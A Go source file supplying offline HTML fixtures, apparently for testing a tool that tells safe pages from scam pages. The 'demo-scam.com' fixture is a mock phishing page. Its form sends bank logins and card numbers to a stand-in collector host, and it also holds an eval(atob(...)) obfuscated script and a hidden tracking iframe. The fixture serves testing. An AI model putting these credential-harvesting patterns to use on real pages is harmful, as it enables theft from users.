package fetcher

import "strings"

// lookupDemoSite matches rawURL against the built-in fixture table after
// stripping scheme, "www." and any trailing slash. Fixtures enable
// deterministic end-to-end runs without network access.
func lookupDemoSite(rawURL string) (string, bool) {
	key := strings.TrimSpace(rawURL)
	key = strings.TrimPrefix(key, "http://")
	key = strings.TrimPrefix(key, "https://")
	key = strings.TrimPrefix(key, "www.")
	key = strings.TrimRight(key, "/")

	fixture, ok := demoSites[key]
	return fixture, ok
}

var demoSites = map[string]string{
	"demo-safe.com": `<!DOCTYPE html>
<html lang="en">
<head>
    <meta charset="UTF-8">
    <title>My Awesome Blog</title>
    <style>body { font-family: sans-serif; }</style>
</head>
<body>
    <header><h1>Welcome to My Blog</h1></header>
    <main>
        <article>
            <h2>My First Post</h2>
            <p>This is a paragraph in my first blog post. It's safe and sound.</p>
        </article>
    </main>
    <footer>
        <p>&copy; 2024 My Awesome Blog</p>
        <a href="/privacy">Privacy Policy</a>
    </footer>
</body>
</html>`,
	"demo-scam.com": `<!DOCTYPE html>
<html>
<head>
<title>Free Luxury Prize!! Claim Now!</title>
</head>
<body style="background-color:yellow; font-family: 'Comic Sans MS', cursive, sans-serif;">
    <h1 style="color:red; text-align:center; font-size: 50px;">CONGRATULATIONS!!! YOU WON!</h1>
    <p style="text-align:center; font-size: 24px;">You have been selected to receive a FREE luxury car! This offer is valid for 5 minutes ONLY!</p>
    <div style="margin: 50px; padding: 20px; border: 5px dashed red;">
        <h2 style="color:blue;">To claim your PRIZE, enter your details below:</h2>
        <form action="http://malicious-data-collector.info/submit" method="post">
            <label for="username">Bank Username:</label><br>
            <input type="text" id="username" name="username"><br>
            <label for="password">Bank Password:</label><br>
            <input type="password" id="password" name="password"><br><br>
            <label for="cc">Credit Card Number:</label><br>
            <input type="text" id="cc" name="cc"><br><br>
            <input type="submit" value="CLAIM MY FREE CAR NOW!" style="background-color:green; color:white; font-size:30px; padding:20px;">
        </form>
    </div>
    <p>See what other winners are saying!</p>
    <p>"I couldn't believe it! I won a new yacht!" - John S. (real person)</p>
    <script>
      // Obfuscated script to make it harder to read
      eval(atob('Y29uc29sZS5sb2coIlNlbmRpbmcgeW91ciBkYXRhIHRvIHVzLi4uIik7'));
    </script>
    <iframe src="http://suspicious-ad-network.net/ads" width="1" height="1" style="display:none;"></iframe>
</body>
</html>`,
}
